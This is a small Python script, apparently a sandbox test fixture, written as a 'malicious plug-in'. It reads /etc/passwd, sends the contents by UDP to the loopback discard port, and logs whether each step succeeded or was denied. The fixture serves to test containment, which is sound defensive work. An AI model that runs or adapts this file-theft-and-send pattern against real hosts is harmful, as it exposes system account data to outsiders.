"""A malicious plug-in: reads /etc/passwd and sends it over a socket.

A thief would name a machine of his own. This one sends to the loopback address, which every container has, so that
the theft succeeds wherever the calls are let through.
"""

import errno
import json
import sys

ATTACK = "steal-passwd"
DESTINATION = ("127.0.0.1", 9)


def report(result, **facts):
    print(json.dumps({"attack": ATTACK, "result": result, **facts}), file=sys.stderr, flush=True)


step = "read"
try:
    with open("/etc/passwd", "rb") as file:
        secret = file.read()
    step = "socket"
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        step = "sendto"
        stream.sendto(secret, DESTINATION)
    report("succeeded", step=step, bytes=len(secret))
except OSError as error:
    report("denied", step=step, errno=errno.errorcode.get(error.errno, str(error.errno)))
